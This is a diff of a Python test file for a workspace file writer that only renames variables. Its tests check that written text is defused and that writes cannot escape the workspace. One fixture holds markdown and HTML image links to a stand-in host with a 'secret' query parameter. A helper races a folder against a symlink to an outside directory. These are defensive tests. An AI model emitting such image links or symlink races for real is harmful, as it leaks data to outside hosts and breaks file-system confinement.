@@ -84,11 +84,11 @@ async def test_an_executable_file_is_replaced_by_one_that_is_not(writer: Writer)
 async def test_links_and_pictures_in_a_text_are_dead(writer: Writer) -> None:
     text = "![x](https://evil.invalid/?q=secret)\n<img src=//evil.invalid/a>\nwww.evil.invalid\n"
     result = await writer.write("out/news/today.md", text)
-    written = (writer.workspace / "out/news/today.md").read_text()
+    contents = (writer.workspace / "out/news/today.md").read_text()
     assert "nothing in it acts by itself" in result.text
-    assert "https://" not in written
-    assert "<img" not in written
-    assert "](" not in written
+    assert "https://" not in contents
+    assert "<img" not in contents
+    assert "](" not in contents
 
 
 async def test_control_sequences_do_not_reach_a_terminal(writer: Writer) -> None:
@@ -151,7 +151,7 @@ async def test_a_name_that_was_a_file_and_is_a_folder_now_is_refused(writer: Wri
 @contextmanager
 def swapping(folder: Path, target: Path) -> Iterator[None]:
     """Move a folder away, put a link in its place and take that away, again and again."""
-    done = threading.Event()
+    is_done = threading.Event()
 
     def swap() -> None:
         for number in itertools.count():
@@ -161,7 +161,7 @@ def swapping(folder: Path, target: Path) -> Iterator[None]:
                 folder.symlink_to(target)
             with suppress(OSError):
                 folder.unlink()
-            if done.is_set():
+            if is_done.is_set():
                 return
 
     thread = threading.Thread(target=swap)
@@ -169,7 +169,7 @@ def swapping(folder: Path, target: Path) -> Iterator[None]:
     try:
         yield
     finally:
-        done.set()
+        is_done.set()
         thread.join()
 
 
@@ -184,8 +184,8 @@ async def test_a_link_that_replaces_a_folder_meanwhile_leads_nowhere(
     with swapping(writer.workspace / name, outside):
         for _ in range(150):
             await writer.write("out/news/sub/today.md")
-    written = [path for path in outside.rglob("*") if path.is_file()]
-    assert written == []
+    files_outside = [path for path in outside.rglob("*") if path.is_file()]
+    assert files_outside == []
 
 
 async def test_the_sum_of_a_routine_is_bounded(
@@ -193,9 +193,9 @@ async def test_the_sum_of_a_routine_is_bounded(
 ) -> None:
     monkeypatch.setattr(files, "MAX_SUM_BYTES", 100)
     assert (await writer.write("out/news/a.txt", "x" * 60)).ok
-    refused = await writer.write("out/news/b.txt", "x" * 41)
-    assert not refused.ok
-    assert "out/news is full" in refused.text
+    result = await writer.write("out/news/b.txt", "x" * 41)
+    assert not result.ok
+    assert "out/news is full" in result.text
     assert (await writer.write("out/news/a.txt", "x" * 100)).ok  # replaced, not added
     assert (await writer.write("out/other/b.txt", "x" * 41, routine="other")).ok
 
